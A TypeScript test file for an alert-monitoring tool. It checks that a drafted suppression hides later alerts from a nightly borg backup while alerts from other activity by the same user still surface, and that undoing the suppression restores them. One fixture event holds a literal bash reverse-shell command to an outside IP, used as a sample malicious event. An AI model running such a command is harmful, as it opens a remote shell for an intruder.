import { expect, test } from "vitest";
import { createManualClock } from "../support/manual-clock.ts";
import { makeRule } from "../support/make-rule.ts";
import { CREATED_AT, makeAlert, makeTenant, NOW } from "../support/make-tenant.ts";
import { startWrites } from "../support/start-writes.ts";

const MINUTE_MS = 60_000;
const RULE = "dddddddd-cb87-41ea-b55e-4f5cfb08a8d1";
const RULESET = "eeeeeeee-cb87-41ea-b55e-4f5cfb08a8d1";

/** The nightly backup of one host, as each alert of it holds it. */
const BACKUP = {
  event_type: "audit",
  type: "start",
  user: "backup",
  exe: "/usr/local/bin/borg",
  arguments: "borg create /srv/repo::nightly",
  tty: null,
};
/** By the same user, through the same rule. */
const SHELL = {
  ...BACKUP,
  exe: "/bin/bash",
  arguments: "bash -i >& /dev/tcp/198.51.100.4/443 0>&1",
};
const OTHER_JOB = { ...BACKUP, user: "root", arguments: "borg delete /srv/repo" };

/** By the minutes before or after now at which each alert is raised. */
const RAISED: readonly (readonly [string, number, readonly object[]])[] = [
  ["a1", -900, [BACKUP, BACKUP]],
  ["a2", -60, [BACKUP]],
  ["b1", 5, [BACKUP]],
  ["b2", 20, [BACKUP, BACKUP]],
  ["b3", 22, [SHELL]],
  ["b4", 24, [BACKUP, SHELL]],
  ["b5", 26, [OTHER_JOB]],
  ["c1", 35, [BACKUP]],
  ["c2", 60, [BACKUP]],
];

function idOf(name: string): string {
  return `${name.repeat(4)}-cb87-41ea-b55e-4f5cfb08a8d1`;
}

function tenantOfBackups() {
  const events = RAISED.map(([name, minutes, list]) => [
    idOf(name),
    list.map((event, index) => ({
      ...event,
      _id: `${name}${String(index).padStart(6, "0")}-0000-4000-8000-000000000000`,
      pid: 1000 + minutes,
      timestamp: NOW + minutes * MINUTE_MS,
    })),
  ]);
  return makeTenant({
    alerts: RAISED.map(([name, minutes]) =>
      makeAlert({
        id: idOf(name),
        ruleId: RULE,
        rulesetId: RULESET,
        createdAt: new Date(NOW + minutes * MINUTE_MS).toISOString(),
      }),
    ),
    rules: [
      makeRule({
        id: RULE,
        rulesetId: RULESET,
        filter: 'type = "start"',
        suppressions: ['user = "nobody"'],
      }),
    ],
    rulesets: [
      {
        id: RULESET,
        name: "Base",
        description: "",
        createdAt: CREATED_AT,
        updatedAt: CREATED_AT,
        rules: [RULE],
      },
    ],
    events: Object.fromEntries(events),
  });
}

test("a drafted suppression that is confirmed silences later alerts of its kind alone, until it is undone", async () => {
  const clock = createManualClock(NOW);
  const { call, write } = await startWrites({ tenant: tenantOfBackups(), clock: clock.now });
  const raised = async (): Promise<string[]> => {
    const text = await call("get_alerts", { status: "all", max_tokens: 2000 });
    return RAISED.map(([name]) => name).filter((name) => text.includes(name.repeat(4)));
  };
  const place = { ruleset_id: RULESET, rule_id: RULE };
  expect(await raised()).toEqual(["a1", "a2"]);

  const draft = await call("draft_suppression", {
    alert_id: idOf("a1"),
    where: 'user = "backup" and exe = "/usr/local/bin/borg"',
  });
  const [, calls = ""] =
    /^call: threatstack_update_suppressions .* add=(\[.*\])$/m.exec(draft) ?? [];
  const add = JSON.parse(calls) as string[];
  const { preview, result } = await write("update_suppressions", { ...place, add });
  expect(preview).toContain("nothing is written yet");
  expect(result).toContain("changed rule");
  expect(await call("get_rule", { ...place, max_tokens: 2000 })).toContain(add[0]);

  await clock.advance(9 * MINUTE_MS);
  expect(await raised()).toEqual(["a1", "a2", "b1"]);
  await clock.advance(21 * MINUTE_MS);
  expect(await raised()).toEqual(["a1", "a2", "b1", "b3", "b4", "b5"]);

  await write("update_suppressions", { ...place, remove: add });
  expect(await call("get_rule", { ...place, max_tokens: 2000 })).not.toContain(add[0]);
  await clock.advance(60 * MINUTE_MS);
  expect(await raised()).toEqual(["a1", "a2", "b1", "b3", "b4", "b5", "c2"]);
});
